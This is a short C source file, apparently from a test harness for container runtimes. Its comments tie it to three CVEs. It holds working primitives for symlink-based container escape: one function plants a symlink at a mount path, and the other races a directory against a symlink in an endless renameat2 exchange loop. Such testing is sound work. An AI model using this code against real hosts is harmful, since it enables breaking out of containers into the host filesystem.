/* SPDX-License-Identifier: MIT */
/*
 * CVE-2026-41579, CVE-2024-45310, CVE-2021-30465: a root file system in which a directory that the
 * runtime will mount on, or make directories in, is a link to a directory of the host's.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* plant PATH TARGET: PATH becomes a link */
int attack_plant(char **argv)
{
    if (rmdir(argv[0]) < 0 && errno != ENOENT)
        return attack_not_tried("rmdir");
    return symlink(argv[1], argv[0]) < 0 ? attack_not_tried("symlink") : ATTACK_OUT;
}

/* swap PATH TARGET: PATH is a directory at one moment, and a link at the next; until it is killed
 */
int attack_swap(char **argv)
{
    char other[512];
    snprintf(other, sizeof other, "%s-", argv[0]);
    if ((mkdir(argv[0], 0755) < 0 && errno != EEXIST) || symlink(argv[1], other) < 0)
        return attack_not_tried("mkdir and symlink");
    for (;;)
        if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, other, RENAME_EXCHANGE) < 0)
            return attack_not_tried("renameat2");
}
